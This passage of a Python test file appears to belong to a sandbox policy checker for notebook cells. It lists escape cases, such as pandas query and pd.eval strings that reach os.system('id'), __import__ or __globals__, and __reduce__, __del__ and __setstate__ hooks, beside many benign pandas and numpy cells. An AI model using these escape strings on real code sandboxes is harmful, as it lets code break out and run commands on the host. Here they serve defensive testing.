        'df.query("a.__class__.__base__ == 1", engine="python")',
    ),
    E("pandas query/eval strings", "query string from a variable", 'q = "@os"\ndf.query(q)'),
    E("pandas query/eval strings", "query string from an f-string", 'df.query(f"{q}")'),
    E(
        "pandas query/eval strings",
        "pd.eval resolves bare names to locals",
        "import pandas as pd\npd.eval(\"pd.io.common.os.system('id')\")",
    ),
    E("pandas query/eval strings", "eval walks an @-local's attributes", 'df.eval("@x.__class__")'),
    E(
        "pandas query/eval strings",
        "globals of the index's class",
        'df.query("index.__class__.__init__.__globals__", engine="python")',
    ),
    E(
        "pandas query/eval strings",
        "a custom local_dict supplies modules",
        'df.eval("a", local_dict={"a": mod})',
    ),
    E(
        "pandas query/eval strings",
        "pd.eval of __import__",
        "import pandas as pd\npd.eval(\"__import__('os')\")",
    ),
    E("pandas query/eval strings", "calls a function through @", 'df.query("@f(1)")'),
    # -- class building and hooks --------------------------------------------------------------------
    E(
        "class building and hooks",
        "type() with a __reduce__ entry",
        'E = type("E", (), {"__reduce__": lambda s: (print, ("x",))})',
    ),
    E(
        "class building and hooks",
        "make_dataclass with a namespace",
        'import dataclasses\nX = dataclasses.make_dataclass("X", [], namespace={"__reduce__": print})',
    ),
    E(
        "class building and hooks",
        "a metaclass",
        "class M(type):\n    pass\nclass A(metaclass=M):\n    pass",
    ),
    E(
        "class building and hooks",
        "a finalizer runs later in a host thread",
        'class A:\n    def __del__(self):\n        print("runs at GC")\na = A()',
    ),
    E(
        "class building and hooks",
        "a subclass hook",
        "class A:\n    def __init_subclass__(cls):\n        pass",
    ),
    E(
        "class building and hooks",
        "__getattr__ intercepts host lookups",
        "class A:\n    def __getattr__(self, name):\n        return name",
    ),
    E(
        "class building and hooks",
        "__setstate__ runs on unpickle",
        "class A:\n    def __setstate__(self, state):\n        pass",
    ),
    E(
        "class building and hooks",
        "a dunder class attribute from setattr-free code",
        "class A:\n    __reduce_ex__ = print",
    ),
]

# ---------------------------------------------------------------------------------------------------
# Benign cells: ordinary analysis that `strict` must not block. `needs` lists modules that
# must be installed to run the cell for real.


@dataclass(frozen=True)
class Benign:
    name: str
    code: str
    needs: tuple[str, ...] = ()


B = Benign
SETUP = """\
import pandas as pd
import numpy as np
sales = pd.DataFrame({
    "region": ["north", "south", "north", "east", "south", "east"],
    "product": ["a", "b", "a", "c", "c", "b"],
    "units": [10, 4, 7, 3, 8, 5],
    "price": [2.5, 4.0, 2.5, 9.0, 9.0, 4.0],
    "dep_delay": [5, -2, 30, 0, 12, 7],
})
regions = pd.DataFrame({"region": ["north", "south", "east"], "manager": ["Ann", "Bo", "Cy"]})
"""

BENIGN: list[Benign] = [
    B(
        "groupby_agg",
        'summary = sales.groupby("region")["units"].agg(["sum", "mean"]).reset_index()\nprint(summary)',
    ),
    B(
        "groupby_named_agg",
        'out = sales.groupby("product").agg(total=("units", "sum"), avg_price=("price", "mean"))\nout',
    ),
    B("merge", 'merged = sales.merge(regions, on="region", how="left")\nmerged.head()'),
    B(
        "pivot_table",
        'pt = sales.pivot_table(index="region", columns="product", values="units", aggfunc="sum", fill_value=0)\npt',
    ),
    B(
        "revenue_column",
        'sales["revenue"] = sales["units"] * sales["price"]\nsales.sort_values("revenue", ascending=False).head(3)',
    ),
    B("query_literal", 'late = sales.query("dep_delay > 10")\nlen(late)'),
    B(
        "query_at_local",
        "threshold = 6\nbig = sales.query(\"units >= @threshold and region != 'east'\")\nbig",
    ),
    B(
        "eval_assign",
        'sales.eval("revenue2 = units * price", inplace=True)\nsales["revenue2"].sum()',
    ),
    B(
        "numpy_stats",
        "arr = np.array([1.0, 2.0, 3.0, 4.0])\nprint(arr.mean(), arr.std(), np.percentile(arr, 90))",
    ),
    B(
        "numpy_linalg",
        "a = np.array([[3.0, 1.0], [1.0, 2.0]])\nb = np.array([9.0, 8.0])\nx = np.linalg.solve(a, b)\nnp.allclose(a @ x, b)",
    ),
    B(
        "numpy_rng_where_select",
        'rng = np.random.default_rng(0)\nv = rng.normal(size=100)\nlabels = np.select([v < -1, v > 1], ["low", "high"], default="mid")\nnp.unique(labels, return_counts=True)',
    ),
    B(
        "matplotlib_buffer",
        'import io\nimport matplotlib\nmatplotlib.use("Agg")\nimport matplotlib.pyplot as plt\nfig, ax = plt.subplots()\nax.bar(sales["region"], sales["units"])\nax.set_title("Units by region / month")\nbuf = io.BytesIO()\nfig.savefig(buf, format="png")\nplt.close(fig)\nlen(buf.getvalue()) > 0',
        needs=("matplotlib",),
    ),
    B(
        "pandas_plot_buffer",
        'import io\nimport matplotlib.pyplot as plt\nax = sales.plot(x="product", y="units", kind="bar")\nwith io.BytesIO() as buffer:\n    ax.figure.savefig(buffer, format="png")\n    size = buffer.tell()\nplt.close("all")\nsize',
        needs=("matplotlib",),
    ),
    B(
        "class_with_init",
        'class Account:\n    def __init__(self, owner, balance=0.0):\n        self.owner = owner\n        self.balance = balance\n        self._history = []\n\n    def deposit(self, amount):\n        self.balance += amount\n        self._history.append(amount)\n        return self\n\n    def __repr__(self):\n        return f"Account({self.owner!r}, {self.balance:.2f})"\n\nacct = Account("ann").deposit(10).deposit(5)\nprint(acct, type(acct).__name__, acct.__class__.__name__)',
    ),
    B(
        "subclass_super",
        'class Base:\n    def __init__(self, name):\n        self.name = name\n\nclass Child(Base):\n    def __init__(self, name, age):\n        super().__init__(name)\n        self.age = age\n\nc = Child("x", 3)\nisinstance(c, Base), c.name',
    ),
    B(
        "comprehensions",
        'squares = [n * n for n in range(10) if n % 2 == 0]\nlookup = {name: len(name) for name in ["a", "bb", "ccc"]}\nunique = {u % 3 for u in sales["units"]}\ntotal = sum(x for x in squares)\nsquares, lookup, unique, total',
    ),
    B(
        "fstrings",
        'total = sales["units"].sum()\nshare = sales.groupby("region")["units"].sum() / total\nfor region, value in share.items():\n    print(f"{region:<6} {value:6.1%} {total=}")',
    ),
    B(
        "dataclasses",
        "from dataclasses import dataclass, field, asdict\n\n@dataclass\nclass Point:\n    x: float\n    y: float\n    tags: list[str] = field(default_factory=list)\n\n    def __post_init__(self):\n        self.norm = (self.x ** 2 + self.y ** 2) ** 0.5\n\np = Point(3, 4)\nasdict(p), p.norm",
    ),
    B(
        "typing",
        'from typing import Optional, Iterable, TypedDict, NamedTuple, Any\n\nclass Row(TypedDict):\n    name: str\n    value: float\n\nclass Pair(NamedTuple):\n    left: int\n    right: int\n\ndef mean(values: Iterable[float], default: Optional[float] = None) -> Optional[float]:\n    items = list(values)\n    return sum(items) / len(items) if items else default\n\nrow: Row = {"name": "a", "value": 1.0}\nmean([1, 2, 3]), Pair(1, 2), row',
    ),
    B(
        "json_roundtrip",
        'import json\nrecords = sales.head(2).to_dict(orient="records")\ntext = json.dumps(records, indent=2)\njson.loads(text)[0]["region"]',
    ),
    B(
        "csv_in_memory",
        'import io\ncsv_text = "a,b\\n1,2\\n3,4\\n"\nframe = pd.read_csv(io.StringIO(csv_text))\nout = io.StringIO()\nframe.to_csv(out, index=False)\nout.getvalue()',
    ),
    B(
        "parquet_in_memory",
        "import io\nbuf = io.BytesIO()\nsales.to_parquet(buf)\nbuf.seek(0)\nback = pd.read_parquet(buf)\nback.shape",
    ),
    B(
        "pyarrow_table",
        'import pyarrow as pa\nimport pyarrow.compute as pc\ntable = pa.Table.from_pandas(sales)\npc.sum(table["units"]).as_py(), table.schema.field("units").type',
    ),
    B(
        "regex_and_strings",
        'import re\nimport string\npattern = re.compile(r"(\\w+)@(\\w+)\\.com")\nm = pattern.search("contact: ann@example.com")\nm.group(1), string.ascii_lowercase[:3], "a-b-c".split("-")',
    ),
    B(
        "datetime_resample",
        'from datetime import datetime, timedelta\nidx = pd.date_range("2024-01-01", periods=10, freq="D")\nts = pd.Series(range(10), index=idx)\nweekly = ts.resample("W").sum()\n(datetime(2024, 1, 1) + timedelta(days=3)).date(), weekly.iloc[0]',
    ),
    B(
        "collections_itertools_functools",
        'from collections import Counter, defaultdict, deque\nfrom itertools import combinations, groupby\nfrom functools import reduce, lru_cache, partial\n\n@lru_cache(maxsize=None)\ndef fib(n):\n    return n if n < 2 else fib(n - 1) + fib(n - 2)\n\ncounts = Counter(sales["region"])\nbuckets = defaultdict(list)\nfor r, u in zip(sales["region"], sales["units"]):\n    buckets[r].append(u)\npairs = list(combinations("abc", 2))\nfib(20), counts.most_common(1), reduce(lambda a, b: a + b, [1, 2, 3]), partial(pow, 2)(5), deque([1, 2]).pop()',
    ),
    B(
        "decimal_fractions_statistics",
        'from decimal import Decimal\nfrom fractions import Fraction\nimport statistics\nimport math\nDecimal("0.1") + Decimal("0.2"), Fraction(1, 3) * 3, statistics.median([3, 1, 2]), math.isclose(0.1 + 0.2, 0.3)',
    ),
    B(
        "enum_class_and_functional_literal",
        'from enum import Enum, auto\n\nclass Color(Enum):\n    RED = auto()\n    GREEN = auto()\n\nSize = Enum("Size", "S M L")\nColor.RED.name, Size.M.value',
    ),
    B(
        "random_textwrap",
        'import random\nimport textwrap\nrandom.seed(1)\nsample = random.sample(range(100), 5)\ntextwrap.shorten("a fairly long sentence about sales numbers", width=20), sample',
    ),
    B(
        "getattr_constant",
        'shape = getattr(sales, "shape")\nhas_mean = hasattr(sales["units"], "mean")\nshape, has_mean, getattr(sales, "missing_attr", None)',
    ),
    B(
        "format_literal_templates",
        'line = "{:.2f} units of {}".format(3.14159, "a")\nnamed = "{name} sold {n}".format(name="ann", n=3)\nrow = "{0[region]} {0[units]}".format({"region": "north", "units": 3})\nold = "%s: %d" % ("total", 5)\nline, named, row, old',
    ),
    B(
        "styler_format",
        'styled = sales.style.format({"price": "{:.2f}"})\nhtml = styled.to_html()\nlen(html) > 0',
        needs=("jinja2",),
    ),
    B(
        "loops_try_except",
        'totals = {}\nfor _, row in sales.iterrows():\n    try:\n        totals[row["region"]] = totals.get(row["region"], 0) + int(row["units"])\n    except (KeyError, ValueError) as exc:\n        print("skip", exc)\nwhile len(totals) > 5:\n    break\ntotals',
    ),
    B(
        "functions_and_lambdas",
        'def top_n(frame: pd.DataFrame, col: str, n: int = 3) -> pd.DataFrame:\n    """Rows with the largest values of col."""\n    return frame.nlargest(n, col)\n\nkey = lambda r: -r\nsorted([3, 1, 2], key=key), top_n(sales, "units", 2)["units"].tolist()',
    ),
    B(
        "apply_and_map",
        'sales["size"] = sales["units"].apply(lambda u: "big" if u > 6 else "small")\nsales["region_code"] = sales["region"].map({"north": "N", "south": "S", "east": "E"})\nsales[["size", "region_code"]].value_counts()',
    ),
    B(
        "crosstab_describe",
        'ct = pd.crosstab(sales["region"], sales["product"])\ndesc = sales.describe()\nct.shape, round(desc.loc["mean", "units"], 2)',
    ),
    B(
        "numpy_broadcast_vectorize",
        "m = np.arange(12).reshape(3, 4)\ncentered = m - m.mean(axis=0)\nnorms = np.sqrt((centered ** 2).sum(axis=1))\nwindows = np.lib.stride_tricks.sliding_window_view(np.arange(6), 3)\nnorms.round(2), windows.shape, np.trace(m[:, :3])",
    ),
    B(
        "copy_warnings",
        'import copy\nimport warnings\nwarnings.filterwarnings("ignore")\nsnapshot = copy.deepcopy(sales)\nsnapshot.equals(sales), sales.copy().shape',
    ),
    B(
        "dtype_checks",
        'from pandas.api.types import is_numeric_dtype\nnumeric = [c for c in sales.columns if is_numeric_dtype(sales[c])]\nnumeric, sales.select_dtypes("number").columns.tolist(), sales.dtypes.astype(str).to_dict()',
    ),
    B(
        "main_guard_and_docstring",
        '"""Summarise sales by region."""\n\ndef main():\n    return sales.groupby("region")["units"].sum().to_dict()\n\nif __name__ == "__main__":\n    result = main()\nresult',
    ),
    B(
        "match_statement",
        'def describe(value):\n    match value:\n        case {"kind": "sale", "units": n} if n > 5:\n            return "big sale"\n        case [first, *rest]:\n            return f"list starting {first}"\n        case _:\n            return "other"\n\ndescribe({"kind": "sale", "units": 9}), describe([1, 2])',
    ),
    B(
        "json_to_buffer",
        'import io\nimport json\nbuf = io.StringIO()\njson.dump({"a": 1}, buf)\nbuf.seek(0)\njson.load(buf)',
    ),
    B(
        "numpy_save_load_buffer",
        "import io\nbuf = io.BytesIO()\nnp.save(buf, np.arange(5))\nbuf.seek(0)\nnp.load(buf).sum()",
    ),
    B(
        "string_paths_in_labels",
        'labels = {"speed": "km/h", "ratio": "a/b", "date": "%d/%m/%Y"}\nsales["when"] = pd.to_datetime(["2024-01-0" + str(i) for i in range(1, 7)])\nsales["when"].dt.strftime(labels["date"]).tolist()[:2], sales["region"].str.replace("~", "-").tolist()[:1]',
    ),
    B(
        "walrus_and_unpacking",
        'if (n := len(sales)) > 3:\n    first, *middle, last = sales["units"].tolist()\nfor _ in range(2):\n    pass\nn, first, last',
    ),
    B("async_await", "async def double(x):\n    return x * 2\n\nresult = await double(21)\nresult"),
    B(
        "set_index_reset",
        'indexed = sales.set_index(["region", "product"]).sort_index()\nindexed.loc["north"].reset_index().shape, indexed.index.names',
    ),
    B(
        "self_private_helper",
        'class Cache:\n    def __init__(self):\n        self._store = {}\n\n    def _key(self, a, b):\n        return f"{a}:{b}"\n\n    def get(self, a, b):\n        return self._store.setdefault(self._key(a, b), a + b)\n\nc = Cache()\nc.get(1, 2), c.get(1, 2)',
    ),
]
